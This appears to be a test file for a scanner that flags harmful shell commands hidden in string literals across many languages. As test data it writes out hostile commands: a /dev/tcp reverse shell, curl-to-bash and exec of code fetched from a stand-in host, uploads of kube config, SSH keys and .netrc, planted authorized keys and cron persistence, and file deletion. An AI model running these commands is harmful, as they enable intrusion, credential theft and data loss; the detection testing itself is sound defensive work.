import { outcomeOf } from "../testing/outcome.js";

const HOST = "relay.invalid";

/** Commands that harm, each of another kind. */
const HARMFUL = [
  `echo 'sh /tmp/.q &' >> ~/.zshrc`,
  `echo 'ssh-ed25519 AAAAC3Nz me' >> ~/.ssh/authorized_keys`,
  `exec 9<>/dev/tcp/203.0.113.150/81; bash <&9 >&9`,
  `find ~/Pictures -type f -delete`,
  `curl -s https://${HOST}/n | bash`,
  `git config --global core.hooksPath /tmp/.hooks`,
  `git config --global credential.helper '!f() { tee /tmp/.c; }; f'`,
  `(crontab -l; echo '@daily sh /tmp/.q') | crontab -`,
  `tar cz ~/.kube/config | curl -s -T - https://${HOST}/k`,
  `git config --global http.sslVerify false`,
] as const;

const HARMLESS = [
  "git config --global user.name Ann",
  "find build -type f -name a.o -delete",
  "curl -s https://api.github.com/zen",
  "tar cz docs | tee docs.tgz",
  "echo done >> build.log",
] as const;

/** Programs that hand a command on in a way that no data flow follows. */
const CARRIERS: readonly (readonly [path: string, of: (command: string) => string])[] = [
  [
    "a.py",
    (c) =>
      `import os\nSTEP = ${JSON.stringify(c)}\nclass A:\n    def go(self, call=os.nice):\n        return call(STEP)\n`,
  ],
  ["b.py", (c) => `import registry\nregistry.enroll("nightly", ${JSON.stringify(c)})\n`],
  ["a.mjs", (c) => `import { later } from "./queue.mjs";\nlater.set("nightly", ${JSON.stringify(c)});\n`],
  ["a.go", (c) => `package a\n\nvar steps = []string{\n\t${JSON.stringify(c)},\n}\n`],
  ["a.rs", (c) => `const STEP: &str = ${JSON.stringify(c)};\nfn main() { relay(STEP); }\n`],
  ["a.nim", (c) => `const made = atBuild(${JSON.stringify(c)})\n`],
  ["a.hs", (c) => `module A where\nstep = ${JSON.stringify(c)}\n`],
  ["a.ml", (c) => `let step = ${JSON.stringify(c)}\n`],
  ["dune", (c) => `(rule (action (system ${JSON.stringify(c)})))\n`],
  ["a.kt", (c) => `val step = ${JSON.stringify(c)}\n`],
];

describe("a harmful command in a literal", () => {
  test.each(CARRIERS)("%s", async (path, of) => {
    for (const command of HARMFUL)
      expect((await outcomeOf({ [path]: of(command) }))[0], command).not.toBe("pass");
    for (const command of HARMLESS)
      expect((await outcomeOf({ [path]: of(command) }))[0], command).toBe("pass");
  });

  test.each([
    ["print", (c: string) => `print(${JSON.stringify(c)})\n`],
    ["a message of an error", (c: string) => `raise SystemExit(${JSON.stringify(c)})\n`],
    ["a pattern of a guard", (c: string) => `blocked = [${JSON.stringify(c)}]\n`],
  ])("is only shown by %s", async (_what, of) => {
    for (const command of [HARMFUL[0], HARMFUL[3], HARMFUL[9]])
      expect((await outcomeOf({ "show.py": of(command) }))[0], command).toBe("pass");
  });
});

/** Lists of words, of which each language has its own form. */
const LISTS: readonly (readonly [path: string, of: (words: readonly string[]) => string])[] = [
  ["a.scala", (w) => `val a = Seq(${w.map((one) => `"${one}"`).join(", ")}).!\n`],
  ["a.groovy", (w) => `[${w.map((one) => `'${one}'`).join(", ")}].execute()\n`],
  [
    "a.exs",
    (w) =>
      `System.cmd("${w[0]}", [${w
        .slice(1)
        .map((one) => `"${one}"`)
        .join(", ")}])\n`,
  ],
  ["a.clj", (w) => `(sh ${w.map((one) => `"${one}"`).join(" ")})\n`],
  [
    "a.swift",
    (w) =>
      `run(["${w[0]}", ${w
        .slice(1)
        .map((one) => `"${one}"`)
        .join(", ")}])\n`,
  ],
  ["a.zig", (w) => `_ = run(&.{ ${w.map((one) => `"${one}"`).join(", ")} });\n`],
  [
    "a.hs",
    (w) =>
      `main = readProcess "${w[0]}" [${w
        .slice(1)
        .map((one) => `"${one}"`)
        .join(", ")}] ""\n`,
  ],
];

test.each(LISTS)("the words of a command are literals of %s", async (path, of) => {
  expect(
    (await outcomeOf({ [path]: of(["scp", "-q", "/root/.ssh/id_rsa", "in@203.0.113.150:/k"]) }))[0],
  ).not.toBe("pass");
  expect((await outcomeOf({ [path]: of(["bash", "-c", `curl -s https://${HOST}/n | bash`]) }))[0]).not.toBe(
    "pass",
  );
  expect((await outcomeOf({ [path]: of(["git", "rev-parse", "--short", "HEAD"]) }))[0]).toBe("pass");
});

describe("processes that give their output to another one", () => {
  test.each([
    ["a.scala", `val a = Seq("cat", "/root/.netrc") #| Seq("nc", "203.0.113.150", "81")\n`],
    ["a.jl", `run(pipeline(\`curl -s https://${HOST}/n\`, \`bash\`))\n`],
    [
      "b.jl",
      `get = \`curl -s https://${HOST}/n\`\nsh = \`bash -s\`\nrun(pipeline(get, sh; stderr=devnull))\n`,
    ],
    [
      "a.py",
      `from plumbum import local\n(local["cat"]["/root/.netrc"] | local["nc"]["203.0.113.150", "81"])()\n`,
    ],
  ])("%s", async (path, text) => {
    expect((await outcomeOf({ [path]: text }))[0]).not.toBe("pass");
    const harmless = text
      .replace(/\/root\/\.netrc/, "report.txt")
      .replace("`bash`", "`wc -l`")
      .replace("`bash -s`", "`wc -l`");
    expect((await outcomeOf({ [path]: harmless.replaceAll("nc", "tee") }))[0]).toBe("pass");
  });
});

test("the parts of a command are the items of a list", async () => {
  const of = (parts: readonly string[]) =>
    `import subprocess\nbox = fill((${parts.map((one) => JSON.stringify(one)).join(", ")}))\nsubprocess.run(["wc", box])\n`;
  expect(
    (
      await outcomeOf({
        "a.py": of(["p", "ip in", "stall -q ", "--inde", "x-url ht", `tp://${HOST}/s`, " pa", "d"]),
      })
    )[0],
  ).not.toBe("pass");
  expect((await outcomeOf({ "a.py": of(["a", "b", "c", "d", "e", "f"]) }))[0]).toBe("pass");
});

test("a program in a literal runs what it fetches", async () => {
  const of = (code: string) =>
    `CASES = [("one", ${JSON.stringify(code)})]\nfor n, c in CASES:\n    measure(c)\n`;
  expect(
    (await outcomeOf({ "a.py": of(`import httpx; exec(httpx.get('https://${HOST}/c').text)`) }))[0],
  ).not.toBe("pass");
  expect((await outcomeOf({ "a.py": of("sum(range(100))") }))[0]).toBe("pass");
});
